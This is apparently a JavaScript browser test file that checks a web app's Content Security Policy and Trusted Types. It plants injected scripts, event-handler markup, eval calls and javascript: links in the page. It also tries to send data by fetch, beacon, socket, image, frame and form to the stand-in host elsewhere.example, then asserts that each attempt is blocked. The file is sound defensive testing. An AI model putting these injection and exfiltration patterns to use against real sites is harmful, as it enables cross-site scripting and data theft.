// What the page's policy is for: whatever finds its way into the page does not run, asks nobody, shows nobody's page.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { connected } from '../../scripts/release.mjs';
import { startServer } from '../../scripts/server.mjs';
import { onPage, startBrowser } from './support/page.mjs';
import { temporaryFolder, writeRelease } from './support/releases.mjs';

/** @type {Awaited<ReturnType<typeof startBrowser>>} */
let browser;
before(async () => { browser = await startBrowser({ folder: 'dist' }); });
after(() => browser.close());

/** What the browser says of what it refuses; each of these tests is about that. */
const refusals = /Content Security Policy|Trusted|violates|ERR_BLOCKED_BY_CSP|Not allowed to load|asked elsewhere|elsewhere\.example\S* csp$/i;

/** Each tries to run `globalThis.planted = true`, or to reach somebody, in the page; what evaluates text does it later, because the driver may. @type {Record<string, { directive: RegExp, plant: () => unknown }>} */
const attempts = {
  'a script in the page': {
    directive: /require-trusted-types-for|script-src/,
    plant() {
      const script = document.createElement('script');
      script.textContent = 'globalThis.planted = true';
      document.head.append(script);
    },
  },
  'a script from elsewhere': {
    directive: /require-trusted-types-for|script-src/,
    plant() {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,globalThis.planted = true';
      document.head.append(script);
    },
  },
  'markup with a handler': {
    directive: /require-trusted-types-for/,
    plant() { document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.planted = true">'); },
  },
  'a handler as an attribute': {
    directive: /require-trusted-types-for|script-src/,
    plant() {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'globalThis.planted = true');
      image.src = 'data:,';
      document.body.append(image);
    },
  },
  'text that is evaluated': { directive: /require-trusted-types-for|script-src/, plant() { setTimeout(() => globalThis.eval('globalThis.planted = true')); } },
  'a function made of text': { directive: /require-trusted-types-for|script-src/, plant() { setTimeout(() => Reflect.construct(Function, ['globalThis.planted = true'])()); } },
  'a timer with text': { directive: /require-trusted-types-for|script-src/, plant() { setTimeout('globalThis.planted = true'); } },
  'a link that is a script': {
    directive: /script-src|require-trusted-types-for/,
    plant() {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.planted = true';
      document.body.append(link);
      link.click();
    },
  },
  'a worker of its own': { directive: /require-trusted-types-for|worker-src/, plant() { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); } },
  'a policy of its own': { directive: /trusted-types/, plant() { globalThis.trustedTypes.createPolicy('planted', { createScript: (text) => text }); } },
  'a style sheet': {
    directive: /style-src/,
    plant() {
      const style = document.createElement('style');
      style.textContent = '#app { display: none }';
      document.head.append(style);
    },
  },
  'a request': { directive: /connect-src/, plant() { return fetch('http://elsewhere.example/').catch(() => undefined); } },
  'a beacon': { directive: /connect-src/, plant() { navigator.sendBeacon('http://elsewhere.example/', 'what is kept'); } },
  'a socket': { directive: /connect-src/, plant() { new WebSocket('wss://elsewhere.example/'); } },
  'a picture from elsewhere': { directive: /img-src/, plant() { new Image().src = 'https://elsewhere.example/?what-is-kept'; } },
  'a frame from elsewhere': {
    directive: /frame-src/,
    plant() {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
  },
  'a form that is sent': {
    directive: /form-action/,
    plant() {
      const form = document.createElement('form');
      [form.action, form.method] = ['https://elsewhere.example/', 'post'];
      document.body.append(form);
      form.submit();
    },
  },
  'another base for addresses': {
    directive: /base-uri/,
    plant() {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
    },
  },
};

/** Notes what the policy has refused. Runs before anything of the page. */
function noteRefusals() {
  globalThis.refused = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => globalThis.refused.push(effectiveDirective));
}

const opened = { prepare: (page) => page.addInitScript(noteRefusals), allowed: refusals };

for (const [what, { directive, plant }] of Object.entries(attempts)) {
  test(`planted in the page, ${what} comes to nothing`, () => onPage(browser, opened, async (page) => {
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.evaluate(plant).catch(() => undefined); // refused as soon as it is tried
    await page.waitForFunction((wanted) => globalThis.refused.some((one) => new RegExp(wanted).test(one)), directive.source);
    assert.equal(await page.evaluate(() => globalThis.planted), undefined);
    assert.ok(page.url().startsWith(browser.url), 'the page is still the page');
  }));
}

test('the page itself is refused nothing', () => onPage(browser, { prepare: opened.prepare }, async (page) => {
  for (const address of ['/claims', '/deadlines', '/review', '/insights', '/exchange', '/settings', '/settings/storage', '/help']) {
    await page.evaluate((to) => { location.hash = to; }, address);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
  }
  assert.deepEqual(await page.evaluate(() => globalThis.refused), []);
}));

test('no other page can show this one in a frame', async () => {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe src="${browser.url}"></iframe>`);
  });
  await new Promise((listening) => { server.listen(0, '127.0.0.1', () => listening(undefined)); });
  try {
    const url = `http://127.0.0.1:${server.address().port}/`;
    await onPage({ browser: browser.browser, url }, { allowed: /frame-ancestors|asked elsewhere|ERR_BLOCKED_BY_RESPONSE|favicon|404/ }, async (page) => {
      const [, frame] = page.frames();
      assert.ok(frame);
      await frame.waitForURL(/chrome-error:/);
    });
  } finally {
    server.closeAllConnections();
    server.close();
  }
});

/** Somebody whom a release names, and who answers any page. */
async function startNamed() {
  const server = createServer((_, response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.end('heard');
  });
  await new Promise((listening) => { server.listen(0, '127.0.0.1', () => listening(undefined)); });
  return { server, origin: `http://127.0.0.1:${server.address().port}` };
}

test('a release that names whom it may ask asks them, and nobody else', async () => {
  const [named, other] = [await startNamed(), await startNamed()];
  const folder = temporaryFolder();
  const connections = { only: [named.origin] };
  writeRelease(folder.path, {}, (page) => connected(page, connections));
  for (const sent of [connections, undefined]) { // what the page says holds also where a host sends another policy
    const server = await startServer({ root: folder.path, connections: sent ?? {} });
    await onPage({ browser: browser.browser, url: server.url }, { ...opened, allowed: refusals }, async (page) => {
      await page.getByRole('heading', { level: 1 }).waitFor();
      const answers = await page.evaluate((origins) => Promise.all(origins.map((origin) => fetch(origin).then((answer) => answer.text(), () => 'refused'))),
        [named.origin, other.origin, 'https://login.microsoftonline.com/']);
      assert.deepEqual(answers, ['heard', 'refused', 'refused']);
    });
    await server.close();
  }
  for (const { server } of [named, other]) {
    server.closeAllConnections();
    server.close();
  }
  folder.remove();
});
